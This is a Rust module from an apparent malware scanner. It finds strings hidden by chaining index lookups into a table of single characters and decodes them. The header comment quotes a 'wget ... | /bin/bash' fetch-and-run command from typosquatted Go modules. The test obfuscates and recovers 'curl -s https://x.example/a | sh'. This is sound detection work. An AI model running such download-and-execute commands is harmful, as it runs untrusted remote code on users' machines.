//! Strings spelled out by indexing a table of single characters: `t := []string{"4",
//! "/", " ", "e", ...}` then `t[34] + t[4] + t[9] + ...`. The typosquatted Go modules of
//! 2025 hid `wget -O - https://... | /bin/bash &` this way; obfuscators for JavaScript
//! and Python produce the same shape.

use super::INDEXED_CHARACTERS;
use super::literals::Candidate;
use regex::bytes::Regex;
use std::sync::LazyLock;

/// Fewest characters in a table, and fewest indexed in one chain, to count.
const MIN_TABLE: usize = 16;
const MIN_CHAIN: usize = 8;
/// Tables read per text, and chains decoded per table.
const MAX_TABLES: usize = 16;
const MAX_CHAINS: usize = 64;

/// A name assigned a list (Go slice, JavaScript or Python list, Ruby array) of at least
/// 16 one-character string literals.
static TABLE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r#"(?-u)(?:^|[^\w$])([A-Za-z_$][\w$]{{0,63}})\s*(?::=|=)\s*(?:\[(?:\.\.\.|\d*)\]string\s*)?[\[{{]\s*((?:["'](?:[^"'\\\n]|\\.)["']\s*,\s*){{{},}}["'](?:[^"'\\\n]|\\.)["']\s*,?\s*)[\]}}]"#,
        MIN_TABLE - 1
    ))
    .expect("table pattern")
});
static ITEM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?-u)["']([^"'\\\n]|\\.)["']"#).expect("item pattern"));
/// An index: decimal, or hexadecimal as obfuscators write it.
const INDEX_TEXT: &str = r"\[\s*(\d{1,4}|0x[0-9a-fA-F]{1,4})\s*\]";
static INDEX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&format!("(?-u){INDEX_TEXT}")).expect("index pattern"));

/// Each chain of at least eight indexings of a table, spelled out.
pub(super) fn indexed_tables(data: &[u8]) -> Vec<Candidate> {
    let has_chain = |needle: &[u8]| memchr::memmem::find(data, needle).is_some();
    if !has_chain(b"]+") && !has_chain(b"] +") {
        return Vec::new();
    }
    let mut out = Vec::new();
    for table in TABLE.captures_iter(data).take(MAX_TABLES) {
        let items: Vec<u8> = ITEM
            .captures_iter(&table[2])
            .map(|item| character(&item[1]))
            .collect();
        let Ok(name) = std::str::from_utf8(&table[1]) else {
            continue;
        };
        let name = regex::escape(name);
        let Ok(chain) = Regex::new(&format!(
            r"(?-u)(?:^|[^\w$])({name}{INDEX_TEXT}(?:\s*\+\s*{name}{INDEX_TEXT}){{{},}})",
            MIN_CHAIN - 1
        )) else {
            continue;
        };
        for found in chain.captures_iter(data).take(MAX_CHAINS) {
            let Some(found) = found.get(1) else {
                continue;
            };
            let text: Option<Vec<u8>> = INDEX
                .captures_iter(found.as_bytes())
                .map(|index| items.get(index_value(&index[1])?).copied())
                .collect();
            if let Some(text) = text {
                out.push(Candidate {
                    bytes: text,
                    offset: found.start(),
                    reversed: false,
                    assembled: Some(INDEXED_CHARACTERS),
                });
            }
        }
    }
    out
}

fn index_value(text: &[u8]) -> Option<usize> {
    let text = std::str::from_utf8(text).ok()?;
    match text.strip_prefix("0x") {
        Some(hex) => usize::from_str_radix(hex, 16).ok(),
        None => text.parse().ok(),
    }
}

/// The character a one-character literal's inside stands for (`\n`, `\\`, `\"`).
fn character(inside: &[u8]) -> u8 {
    match inside {
        [b'\\', b'n'] => b'\n',
        [b'\\', b't'] => b'\t',
        [b'\\', other] => *other,
        [one] => *one,
        _ => b'?',
    }
}

#[cfg(test)]
mod tests {
    use super::indexed_tables;

    #[test]
    fn a_chain_over_a_character_table_is_spelled_out() {
        let command = "curl -s https://x.example/a | sh";
        let mut table: Vec<char> = command.chars().collect();
        table.sort();
        table.dedup();
        let literals: Vec<String> = table.iter().map(|c| format!("\"{c}\"")).collect();
        let chain: Vec<String> = command
            .chars()
            .map(|c| format!("t[{}]", table.iter().position(|&x| x == c).unwrap()))
            .collect();
        let go = format!(
            "t := []string{{{}}}\ncmd := {}\n",
            literals.join(", "),
            chain.join(" + ")
        );
        let found = indexed_tables(go.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].bytes, command.as_bytes());
        assert_eq!(&go.as_bytes()[found[0].offset..found[0].offset + 2], b"t[");
        // Out of the table's range: no text rather than a wrong one.
        let broken = go.replace(&chain[0], "t[999]");
        assert!(indexed_tables(broken.as_bytes()).is_empty());
        // A short table (hex digits) with a short chain is ordinary code.
        let hex = "h := []string{\"0\",\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"}\ns := h[b>>4] + h[b&15]\n";
        assert!(indexed_tables(hex.as_bytes()).is_empty());
        // What javascript-obfuscator writes: a `$`-named table and hexadecimal indices.
        let js = format!(
            "var $t = [{}];\nvar c = {};\n",
            literals.join(","),
            chain.join("+").replace("t[", "$t[")
        );
        let js = hexify(&js);
        let found = indexed_tables(js.as_bytes());
        assert_eq!(found.len(), 1, "{js}");
        assert_eq!(found[0].bytes, command.as_bytes());
    }

    /// Rewrites every `$t[N]` as `$t[0xN]`.
    fn hexify(source: &str) -> String {
        let mut out = String::new();
        let mut rest = source;
        while let Some(at) = rest.find("$t[") {
            out.push_str(&rest[..at + 3]);
            rest = &rest[at + 3..];
            let end = rest.find(']').unwrap();
            match rest[..end].parse::<usize>() {
                Ok(n) => out.push_str(&format!("{n:#x}")),
                Err(_) => out.push_str(&rest[..end]),
            }
            rest = &rest[end..];
        }
        out.push_str(rest);
        out
    }
}
